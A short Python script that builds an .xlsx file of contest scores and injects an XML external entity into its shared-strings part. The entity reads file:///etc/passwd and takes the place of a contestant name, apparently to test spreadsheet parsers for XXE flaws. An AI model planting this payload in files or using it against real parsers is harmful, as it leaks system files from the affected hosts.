from workbooks import Workbook

book = Workbook([
    ["round", "contestant", "score"],
    ["written", "C1", 90],
    ["written", "C2", 88.5],
    ["written", "C3", 91],
    ["written", "C4", 85],
])
strings = "xl/sharedStrings.xml"
book.parts[strings] = book.parts[strings].replace(
    "<sst", '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<sst', 1).replace("C1", "&x;")
book.save("scores/written.xlsx")
